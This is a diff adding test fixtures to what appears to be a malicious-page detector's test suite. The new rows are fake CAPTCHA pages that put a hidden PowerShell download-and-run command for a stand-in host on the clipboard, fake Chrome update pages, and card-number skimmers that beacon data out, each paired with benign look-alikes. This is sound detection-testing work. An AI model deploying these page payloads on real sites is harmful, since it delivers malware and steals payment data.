@@ -116,6 +116,48 @@ INSTANTIATE_TEST_SUITE_P(
               "navigator.clipboard.writeText('p^ow\"er\"shell ir^m http://range.example/a') }</script>"}},
             VisitVerdict::malicious,
             {"paste and run (T1204.004)"}},
+        Row{"a_box_that_is_ticked",
+            {{"/",
+              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
+              "<input type=checkbox id=b> I'm not a robot<script>b.onchange = function () { if (b.checked) "
+              "navigator.clipboard.writeText('powershell -w hidden -c \"iex (irm http://range.example/a)\"') "
+              "}</script>"}},
+            VisitVerdict::malicious,
+            {"paste and run (T1204.004)"}},
+        Row{"heard_far_above",
+            {{"/",
+              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
+              "<div><span class=box>I'm not a "
+              "robot</span></div><script>document.addEventListener('pointerdown', "
+              "function (e) { if (e.target.className == 'box') navigator.clipboard.writeText('powershell -w "
+              "hidden -c \"iex (irm http://range.example/a)\"') })</script>"}},
+            VisitVerdict::malicious,
+            {"paste and run (T1204.004)"}},
+        Row{"in_a_shadow_tree",
+            {{"/",
+              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
+              "<div id=h></div><script>var r = h.attachShadow({mode: 'closed'}); r.innerHTML = "
+              "'<button>Verify</button>'; r.firstChild.onclick = function () { "
+              "navigator.clipboard.writeText('powershell -w hidden -c \"iex (irm http://range.example/a)\"') "
+              "}</script>"}},
+            VisitVerdict::malicious,
+            {"paste and run (T1204.004)"}},
+        Row{"paste_into_an_address_bar",
+            {{"/",
+              "<p>Open File Explorer, click its address bar, paste and press Enter</p><button "
+              "id=b>Copy</button>"
+              "<script>b.onclick = function () { navigator.clipboard.writeText('powershell -w hidden -c "
+              "\"iex (irm http://range.example/a)\"') }</script>"}},
+            VisitVerdict::malicious,
+            {"paste and run (T1204.004)"}},
+        Row{"twin_a_path_for_an_address_bar",
+            {{"/",
+              "<p>Open File Explorer, click its address bar, paste <code id=p>\\\\files\\team</code> and "
+              "press "
+              "Enter</p><button id=b>Copy</button><script>b.onclick = function () { "
+              "navigator.clipboard.writeText(p.textContent) }</script>"}},
+            VisitVerdict::benign,
+            {}},
         Row{"a_text_that_nobody_knows_and_nobody_sees",
             {{"/",
               "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
@@ -203,6 +245,30 @@ INSTANTIATE_TEST_SUITE_P(
               "filename=\"Update.js\"\r\n\r\nvar x"}},
             VisitVerdict::malicious,
             {"fake update (T1204.002)"}},
+        Row{"fake_update_behind_a_forms_button",
+            {{"/",
+              "<h1>You use an older version of Chrome</h1><form action={b}/ChromeSetup.exe><input "
+              "type=hidden name=v "
+              "value=1><button>Update</button></form>"},
+             {"/ChromeSetup.exe?v=1", program}},
+            VisitVerdict::malicious,
+            {"fake update (T1204.002)"}},
+        Row{"fake_update_behind_a_picture",
+            {{"/",
+              "<h1>Update your browser</h1><p>Chrome cannot show this page.</p><a "
+              "href={b}/ChromeSetup.exe><img src=/b "
+              "alt='Download it'></a>"},
+             {"/b", "x"},
+             {"/ChromeSetup.exe", program}},
+            VisitVerdict::malicious,
+            {"fake update (T1204.002)"}},
+        Row{"twin_a_search_form_beside_news_of_an_update",
+            {{"/",
+              "<h1>Chrome update available: what is new</h1><form action={b}/s method=post><input "
+              "name=q><button>Find "
+              "an update</button></form>"}},
+            VisitVerdict::benign,
+            {}},
         Row{"fake_update_made_in_the_page",
             {{"/",
               "<body><h1>Critical update of your browser</h1><button id=u>Update now</button><script>"
@@ -269,6 +335,22 @@ INSTANTIATE_TEST_SUITE_P(
              {"/c", "x"}},
             VisitVerdict::malicious,
             {"form skimmer (T1056.003)"}},
+        Row{"skimmer_that_looks_again_and_again",
+            {{"/",
+              "<input name=card_number id=c><script>var n = 0; setInterval(function () { if (c.value && "
+              "!n++) new "
+              "Image().src = '{b}/i.gif?d=' + btoa(c.value) }, 400)</script>"},
+             {"/i.gif", "x"}},
+            VisitVerdict::malicious,
+            {"form skimmer (T1056.003)"}},
+        Row{"skimmer_that_sets_itself_again",
+            {{"/",
+              "<input name=card_number id=c><script>(function look() { if (c.value) new Image().src = "
+              "'{b}/i.gif?d=' "
+              "+ btoa(c.value); else setTimeout(look, 400) })()</script>"},
+             {"/i.gif", "x"}},
+            VisitVerdict::malicious,
+            {"form skimmer (T1056.003)"}},
         Row{"twin_sign_in_by_the_sites_own_script",
             {{"/",
               "<form id=f action=/in><input type=password name=p><button>In</button></form><script>"
@@ -280,7 +362,8 @@ INSTANTIATE_TEST_SUITE_P(
         Row{"twin_sign_in_at_another_company",
             {{"/",
               "<form id=f action={b}/in><input type=password name=p><button>In</button></form><script>"
-              "f.onsubmit = function () { fetch('{b}/check', {method: 'POST', body: f.p.value}); return "
+              "f.onsubmit = function () { fetch('{b}/check', {method: 'POST', body: "
+              "f.p.value}).catch(function () {}); return "
               "false "
               "}</script>"},
              {"/check", "x"}},
